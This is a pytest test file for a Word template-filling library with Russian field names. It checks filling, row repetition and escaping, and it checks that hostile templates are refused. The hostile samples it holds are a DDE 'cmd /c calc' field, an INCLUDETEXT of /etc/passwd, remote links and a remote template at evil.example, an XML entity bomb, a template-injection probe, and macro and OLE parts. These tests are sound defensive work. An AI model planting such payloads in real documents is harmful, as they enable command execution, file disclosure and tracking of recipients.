"""Templates of papers: what is filled, what is left out, and what is refused."""

import io
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from docx import Document

from papers.default_template import default_template
from papers.fields import LISTS, Content, Field, every
from papers.invented import invented
from papers.isolated import fill_isolated
from papers.template import fill
from papers.template_errors import Fault, TemplateError
from papers.word_file import DOCUMENT

TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
CONTENT = Content(fields={"дата": "14 декабря 2026", "всего": "3", "остальное": ""}, rows={"пункт": []})


def template(*paragraphs: str, rows: Sequence[Sequence[str]] = ()) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if rows:
        table = document.add_table(rows=len(rows), cols=len(rows[0]))
        for row, texts in zip(table.rows, rows, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text
    return saved(document)


def saved(document: "Document") -> bytes:  # type: ignore[valid-type]  # a function makes it
    file = io.BytesIO()
    document.save(file)  # type: ignore[attr-defined]
    return file.getvalue()


def edited(change: Callable[[str], str], part: str = DOCUMENT, *, data: bytes | None = None) -> bytes:
    """With one part changed, or added."""
    made, file = io.BytesIO(), zipfile.ZipFile(io.BytesIO(data or template("{{ дата }}")))
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in file.namelist():
            archive.writestr(name, change(file.read(name).decode()) if name == part else file.read(name))
        if part not in file.namelist():
            archive.writestr(part, change(""))
    return made.getvalue()


def said(data: bytes) -> list[str]:
    return [one.text for one in Document(io.BytesIO(data)).paragraphs]


def refusal(data: bytes) -> list[tuple[Fault, str | None]]:
    with pytest.raises(TemplateError) as refused:
        fill(data, CONTENT)
    return [(one.fault, one.value) for one in refused.value.problems]


def test_the_original_template_has_every_field_that_the_others_may_have() -> None:
    words = zipfile.ZipFile(io.BytesIO(default_template())).read(DOCUMENT).decode()
    left_out = {Field.SHARE, "просрочка.текст"}
    assert {name for name in every() if f"{{{{ {name} }}}}" not in words} == left_out
    assert invented().rows.keys() == LISTS.keys()
    assert "{{" not in "".join(said(fill(default_template(), invented())))


def test_a_field_may_be_parted_and_spelled_as_people_do() -> None:
    document = Document()
    paragraph = document.add_paragraph()
    for piece in ("На ", "{", "{ Да", "та }", "} всего {{Всего}}"):
        paragraph.add_run(piece)
    assert said(fill(saved(document), CONTENT)) == ["На 14 декабря 2026 всего 3"]


def test_fields_stand_in_headers_and_footers_too() -> None:
    document = Document()
    document.sections[0].header.paragraphs[0].text = "{{ дата }}"
    made = Document(io.BytesIO(fill(saved(document), CONTENT)))
    assert made.sections[0].header.paragraphs[0].text == "14 декабря 2026"


def test_what_stands_in_the_words_is_no_field_and_no_markup() -> None:
    entry = {"номер": "1", "текст": "{{ всего }} <w:p/> & {% x %}\nвторая строка\x01"}
    content = Content(fields=CONTENT.fields, rows={"пункт": [entry]})
    made = fill(template("{{ дата }}", rows=[["{{ пункт.номер }}", "{{ пункт.текст }}"]]), content)
    (row,) = Document(io.BytesIO(made)).tables[0].rows
    assert [cell.text for cell in row.cells] == ["1", "{{ всего }} <w:p/> & {% x %}\nвторая строка"]


def test_rows_and_paragraphs_are_repeated_and_what_is_empty_is_left_out() -> None:
    data = template(
        "{{ дата }}", "{{ остальное }}", "• {{ протокол.название }}", "По пунктам", rows=[["№"], ["{{ пункт.номер }}"]]
    )
    names = {"протокол": [{"название": "один"}, {"название": "два"}]}
    made = fill(data, Content(fields=CONTENT.fields, rows=names | {"пункт": [{"номер": "1"}, {"номер": "2"}]}))
    assert said(made) == ["14 декабря 2026", "• один", "• два", "По пунктам"]
    assert [row.cells[0].text for row in Document(io.BytesIO(made)).tables[0].rows] == ["№", "1", "2"]
    made = fill(data, CONTENT)
    assert said(made) == ["14 декабря 2026"]
    assert Document(io.BytesIO(made)).tables == []


def test_the_same_words_make_the_same_file() -> None:
    assert fill(default_template(), invented()) == fill(default_template(), invented())


def test_what_is_wrong_with_the_fields_is_named() -> None:
    assert refusal(template("{{ всиго }} {{ ''.__class__.__mro__ }}")) == [
        (Fault.UNKNOWN, "всиго"),
        (Fault.UNKNOWN, "''.__class__.__mro__"),
    ]
    assert refusal(template("{{ дата }} и {{ всего")) == [(Fault.OPEN, "и {{ всего")]
    assert refusal(template("{% for x in range(10**9) %}{{ дата }}")) == [
        (Fault.STATEMENT, "{% for x in range(10**9) %}")
    ]
    assert refusal(template("x", rows=[["{{ пункт.номер }}", "{{ протокол.название }}"]])) == [
        (Fault.MIXED, "пункт, протокол")
    ]
    assert refusal(template("Ничего")) == [(Fault.NO_FIELDS, None)]


FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'


def command(*pieces: str) -> bytes:
    told = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return edited(lambda text: text.replace("<w:sectPr", FIELD.format(told), 1))


def relation(kind: str, target: str) -> bytes:
    added = f'<Relationship Id="rId99" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return edited(lambda text: text.replace("</Relationships>", f"{added}</Relationships>"), RELATIONS)


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    ("data", "fault"),
    [
        (b"", Fault.NOT_WORD),
        (b"%PDF-1.7", Fault.NOT_WORD),
        (b"x" * 4 * 2**20, Fault.TOO_LARGE),
        (edited(lambda _: "0" * 40 * 2**20, "word/media/zeros"), Fault.TOO_LARGE),
        (edited(lambda _: "x", "word/vbaProject.bin"), Fault.MACROS),
        (
            edited(lambda text: text.replace("document.main", "document.macroEnabled.main"), "[Content_Types].xml"),
            Fault.MACROS,
        ),
        (edited(lambda _: "x", "word/embeddings/oleObject1.bin"), Fault.EMBEDDED),
        (relation("image", "http://evil.example/pixel.png"), Fault.LINKED),
        (relation("aFChunk", "http://evil.example/page.html"), Fault.LINKED),
        (command("DDE", "AUTO cmd &quot;/c calc&quot;"), Fault.COMMAND),
        (command("INCLUDETEXT /etc/passwd"), Fault.COMMAND),
        (edited(lambda text: text.replace("?>", f"?>{BOMB}", 1)), Fault.DAMAGED),
        (edited(lambda text: text[:-20]), Fault.DAMAGED),
    ],
)
async def test_what_fetches_starts_or_blows_up_is_refused(data: bytes, fault: Fault) -> None:
    with pytest.raises(TemplateError) as refused:
        fill(data, CONTENT)
    assert [one.fault for one in refused.value.problems] == [fault]


def test_page_numbers_and_links_to_read_are_let_in_and_the_template_behind_is_cut_off() -> None:
    assert fill(command(" PAGE \\* MERGEFORMAT"), CONTENT)
    assert fill(relation("hyperlink", "https://edu.example"), CONTENT)
    made = fill(relation("attachedTemplate", "http://evil.example/x.dotm"), CONTENT)
    assert "evil" not in zipfile.ZipFile(io.BytesIO(made)).read(RELATIONS).decode()


async def test_in_a_process_of_its_own_it_is_the_same_and_ends_in_time(tmp_path: Path) -> None:
    assert await fill_isolated(default_template(), invented()) == fill(default_template(), invented())
    with pytest.raises(TemplateError) as refused:
        await fill_isolated(template("{{ всиго }}"), CONTENT)
    assert [(one.value, one.near) for one in refused.value.problems] == [("всиго", "всего")]
    with pytest.raises(TemplateError) as refused:
        await fill_isolated(default_template(), invented(), seconds=0.01)
    assert [one.fault for one in refused.value.problems] == [Fault.TOO_LONG]
